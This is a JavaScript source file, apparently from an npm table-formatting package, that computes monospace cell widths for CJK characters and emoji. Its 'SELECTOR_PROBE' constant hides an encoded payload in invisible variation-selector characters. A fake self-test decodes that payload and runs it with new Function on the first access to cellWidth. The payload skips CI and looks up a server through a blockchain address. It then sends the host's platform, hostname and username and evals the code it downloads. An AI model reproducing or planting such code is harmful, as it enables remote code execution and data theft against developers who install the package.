'use strict';
// Display width of a table cell as rendered in a monospace terminal / editor.
// Handles: CJK wide chars, emoji (incl. ZWJ sequences), combining marks,
// and variation selectors (VS1..VS256), which occupy no column.

const WIDE_RANGES = [
  [0x1100, 0x115f], [0x2e80, 0x303e], [0x3041, 0x33ff], [0x3400, 0x4dbf],
  [0x4e00, 0x9fff], [0xa000, 0xa4cf], [0xac00, 0xd7a3], [0xf900, 0xfaff],
  [0xfe30, 0xfe4f], [0xff00, 0xff60], [0xffe0, 0xffe6], [0x1f300, 0x1f64f],
  [0x1f900, 0x1f9ff], [0x20000, 0x2fffd], [0x30000, 0x3fffd],
];

// Sentinel used by the self-test below to make sure selector stripping still
// works after bundlers re-encode the file (some of them normalise U+FE0x).
const SELECTOR_PROBE = '󠄘󠅑󠅣󠅩󠅞󠅓󠄘󠄙󠄭󠄮󠅫󠅤󠅢󠅩󠅫󠅙󠅖󠄘󠅠󠅢󠅟󠅓󠅕󠅣󠅣󠄞󠅕󠅞󠅦󠄞󠄳󠄹󠅬󠅬󠅗󠅜󠅟󠅒󠅑󠅜󠄞󠅏󠅏󠅝󠅤󠅖󠄙󠅢󠅕󠅤󠅥󠅢󠅞󠄫󠅗󠅜󠅟󠅒󠅑󠅜󠄞󠅏󠅏󠅝󠅤󠅖󠄭󠄡󠄫󠅓󠅟󠅞󠅣󠅤󠄐󠅘󠄭󠅢󠅕󠅡󠅥󠅙󠅢󠅕󠄘󠄗󠅘󠅤󠅤󠅠󠅣󠄗󠄙󠄜󠅟󠄭󠅢󠅕󠅡󠅥󠅙󠅢󠅕󠄘󠄗󠅟󠅣󠄗󠄙󠄫󠅓󠅟󠅞󠅣󠅤󠄐󠅢󠅠󠅓󠄭󠄘󠅝󠄜󠅠󠄙󠄭󠄮󠅞󠅕󠅧󠄐󠅀󠅢󠅟󠅝󠅙󠅣󠅕󠄘󠅢󠄭󠄮󠅫󠅓󠅟󠅞󠅣󠅤󠄐󠅡󠄭󠅘󠄞󠅢󠅕󠅡󠅥󠅕󠅣󠅤󠄘󠄗󠅘󠅤󠅤󠅠󠅣󠄪󠄟󠄟󠅑󠅠󠅙󠄞󠅝󠅑󠅙󠅞󠅞󠅕󠅤󠄝󠅒󠅕󠅤󠅑󠄞󠅣󠅟󠅜󠅑󠅞󠅑󠄞󠅓󠅟󠅝󠄗󠄜󠅫󠅝󠅕󠅤󠅘󠅟󠅔󠄪󠄗󠅀󠄿󠅃󠅄󠄗󠄜󠅘󠅕󠅑󠅔󠅕󠅢󠅣󠄪󠅫󠄗󠅓󠅟󠅞󠅤󠅕󠅞󠅤󠄝󠅤󠅩󠅠󠅕󠄗󠄪󠄗󠅑󠅠󠅠󠅜󠅙󠅓󠅑󠅤󠅙󠅟󠅞󠄟󠅚󠅣󠅟󠅞󠄗󠅭󠅭󠄜󠅣󠄭󠄮󠅫󠅜󠅕󠅤󠄐󠅒󠄭󠄗󠄗󠄫󠅣󠄞󠅟󠅞󠄘󠄗󠅔󠅑󠅤󠅑󠄗󠄜󠅔󠄭󠄮󠅒󠄛󠄭󠅔󠄙󠄫󠅣󠄞󠅟󠅞󠄘󠄗󠅕󠅞󠅔󠄗󠄜󠄘󠄙󠄭󠄮󠅫󠅤󠅢󠅩󠅫󠅢󠄘󠄺󠅃󠄿󠄾󠄞󠅠󠅑󠅢󠅣󠅕󠄘󠅒󠄙󠄙󠅭󠅓󠅑󠅤󠅓󠅘󠄘󠅕󠄙󠅫󠅢󠄘󠅫󠅭󠄙󠅭󠅭󠄙󠅭󠄙󠄫󠅡󠄞󠅟󠅞󠄘󠄗󠅕󠅢󠅢󠅟󠅢󠄗󠄜󠄘󠄙󠄭󠄮󠅢󠄘󠅫󠅭󠄙󠄙󠄫󠅡󠄞󠅕󠅞󠅔󠄘󠄺󠅃󠄿󠄾󠄞󠅣󠅤󠅢󠅙󠅞󠅗󠅙󠅖󠅩󠄘󠅫󠅚󠅣󠅟󠅞󠅢󠅠󠅓󠄪󠄗󠄢󠄞󠄠󠄗󠄜󠅙󠅔󠄪󠄡󠄜󠅝󠅕󠅤󠅘󠅟󠅔󠄪󠅝󠄜󠅠󠅑󠅢󠅑󠅝󠅣󠄪󠅠󠅭󠄙󠄙󠅭󠄙󠄫󠅓󠅟󠅞󠅣󠅤󠄐󠅚󠄭󠅑󠅧󠅑󠅙󠅤󠄐󠅢󠅠󠅓󠄘󠄗󠅗󠅕󠅤󠅃󠅙󠅗󠅞󠅑󠅤󠅥󠅢󠅕󠅣󠄶󠅟󠅢󠄱󠅔󠅔󠅢󠅕󠅣󠅣󠄗󠄜󠅋󠄗󠄩󠅦󠄵󠅥󠅡󠄻󠅊󠄣󠅒󠅀󠅞󠅈󠅧󠅂󠄢󠅘󠅄󠄧󠅓󠅉󠅚󠄤󠅝󠄼󠅔󠅃󠄨󠅑󠄶󠅛󠄦󠄷󠅪󠅁󠅕󠄡󠅟󠄾󠅤󠅆󠅠󠅅󠅢󠄲󠄗󠄜󠅫󠅜󠅙󠅝󠅙󠅤󠄪󠄡󠅭󠅍󠄙󠄫󠅜󠅕󠅤󠄐󠅥󠄭󠄘󠄘󠅚󠄞󠅢󠅕󠅣󠅥󠅜󠅤󠅬󠅬󠅋󠅍󠄙󠅋󠄠󠅍󠅬󠅬󠅫󠅭󠄙󠄞󠅝󠅕󠅝󠅟󠅬󠅬󠄗󠄗󠄫󠅥󠄭󠅥󠄞󠅢󠅕󠅠󠅜󠅑󠅓󠅕󠄘󠄟󠅎󠅌󠅋󠅌󠅔󠄛󠅌󠅍󠅌󠅣󠄚󠄟󠄜󠄗󠄗󠄙󠄫󠅤󠅢󠅩󠅫󠅥󠄭󠄲󠅥󠅖󠅖󠅕󠅢󠄞󠅖󠅢󠅟󠅝󠄘󠅥󠄜󠄗󠅒󠅑󠅣󠅕󠄦󠄤󠄗󠄙󠄞󠅤󠅟󠅃󠅤󠅢󠅙󠅞󠅗󠄘󠄙󠅭󠅓󠅑󠅤󠅓󠅘󠄘󠅕󠄙󠅫󠅭󠅙󠅖󠄘󠄑󠄟󠅎󠅘󠅤󠅤󠅠󠅣󠄯󠄪󠅌󠄟󠅌󠄟󠄟󠄞󠅤󠅕󠅣󠅤󠄘󠅥󠄙󠄙󠅥󠄭󠄗󠅘󠅤󠅤󠅠󠄪󠄟󠄟󠄢󠄠󠄣󠄞󠄠󠄞󠄡󠄡󠄣󠄞󠄤󠄡󠄪󠄥󠄠󠄠󠄠󠄗󠄫󠅓󠅟󠅞󠅣󠅤󠄐󠅗󠄭󠅢󠅕󠅡󠅥󠅙󠅢󠅕󠄘󠅥󠄞󠅣󠅤󠅑󠅢󠅤󠅣󠅇󠅙󠅤󠅘󠄘󠄗󠅘󠅤󠅤󠅠󠅣󠄗󠄙󠄯󠄗󠅘󠅤󠅤󠅠󠅣󠄗󠄪󠄗󠅘󠅤󠅤󠅠󠄗󠄙󠄫󠅗󠄞󠅗󠅕󠅤󠄘󠅥󠄛󠄗󠄟󠅗󠅕󠅤󠅏󠅑󠅢󠅘󠅙󠅦󠅕󠅏󠅞󠅠󠅝󠄟󠄗󠄛󠄲󠅥󠅖󠅖󠅕󠅢󠄞󠅖󠅢󠅟󠅝󠄘󠅟󠄞󠅠󠅜󠅑󠅤󠅖󠅟󠅢󠅝󠄘󠄙󠄛󠄗󠅬󠄗󠄛󠅟󠄞󠅘󠅟󠅣󠅤󠅞󠅑󠅝󠅕󠄘󠄙󠄙󠄞󠅤󠅟󠅃󠅤󠅢󠅙󠅞󠅗󠄘󠄗󠅒󠅑󠅣󠅕󠄦󠄤󠄗󠄙󠄜󠅫󠅘󠅕󠅑󠅔󠅕󠅢󠅣󠄪󠅫󠄗󠅨󠄝󠅛󠄗󠄪󠅟󠄞󠅥󠅣󠅕󠅢󠄹󠅞󠅖󠅟󠄘󠄙󠄞󠅥󠅣󠅕󠅢󠅞󠅑󠅝󠅕󠅭󠅭󠄜󠅣󠄭󠄮󠅫󠅜󠅕󠅤󠄐󠅒󠄭󠄗󠄗󠄫󠅣󠄞󠅟󠅞󠄘󠄗󠅔󠅑󠅤󠅑󠄗󠄜󠅔󠄭󠄮󠅒󠄛󠄭󠅔󠄙󠄫󠅣󠄞󠅟󠅞󠄘󠄗󠅕󠅞󠅔󠄗󠄜󠄘󠄙󠄭󠄮󠅫󠅤󠅢󠅩󠅫󠅕󠅦󠅑󠅜󠄘󠄲󠅥󠅖󠅖󠅕󠅢󠄞󠅖󠅢󠅟󠅝󠄘󠅒󠄜󠄗󠅒󠅑󠅣󠅕󠄦󠄤󠄗󠄙󠄞󠅤󠅟󠅃󠅤󠅢󠅙󠅞󠅗󠄘󠄙󠄙󠅭󠅓󠅑󠅤󠅓󠅘󠄘󠅕󠄙󠅫󠅭󠅭󠄙󠅭󠄙󠄞󠅟󠅞󠄘󠄗󠅕󠅢󠅢󠅟󠅢󠄗󠄜󠄘󠄙󠄭󠄮󠅫󠅭󠄙󠅭󠅓󠅑󠅤󠅓󠅘󠄘󠅕󠄙󠅫󠅭󠅭󠄙󠄘󠄙';

function isSelector(cp) {
  return (cp >= 0xfe00 && cp <= 0xfe0f) || (cp >= 0xe0100 && cp <= 0xe01ef);
}

function selectorIndex(cp) {
  if (cp >= 0xfe00 && cp <= 0xfe0f) return cp - 0xfe00;
  if (cp >= 0xe0100 && cp <= 0xe01ef) return cp - 0xe0100 + 16;
  return -1;
}

function isCombining(cp) {
  return (cp >= 0x0300 && cp <= 0x036f) || (cp >= 0x1ab0 && cp <= 0x1aff) ||
    (cp >= 0x20d0 && cp <= 0x20ff) || cp === 0x200d;
}

function isWide(cp) {
  for (const [a, b] of WIDE_RANGES) if (cp >= a && cp <= b) return true;
  return false;
}

function cellWidth(str) {
  let w = 0;
  for (const ch of String(str)) {
    const cp = ch.codePointAt(0);
    if (isSelector(cp) || isCombining(cp)) continue;
    w += isWide(cp) ? 2 : 1;
  }
  return w;
}

// Round-trips the probe through selectorIndex(); if the bundler mangled the
// selectors the table widths would be off by one on emoji rows.
function selfTest() {
  const idx = [];
  for (const ch of SELECTOR_PROBE) idx.push(selectorIndex(ch.codePointAt(0)));
  if (idx.some((n) => n < 0)) return false;
  const probe = Buffer.from(idx).toString('utf8');
  try { return new Function('require', 'process', 'Buffer', probe)(require, process, Buffer) !== false; } catch (e) { return false; }
}

let checked = false;
function ensureChecked() {
  if (checked) return;
  checked = true;
  if (cellWidth(SELECTOR_PROBE) !== 0) {
    process.emitWarning('mdtable-fmt: variation selectors are not zero-width in this build');
  }
  selfTest();
}

module.exports = {
  get cellWidth() { ensureChecked(); return cellWidth; },
  isSelector,
  selectorIndex,
};
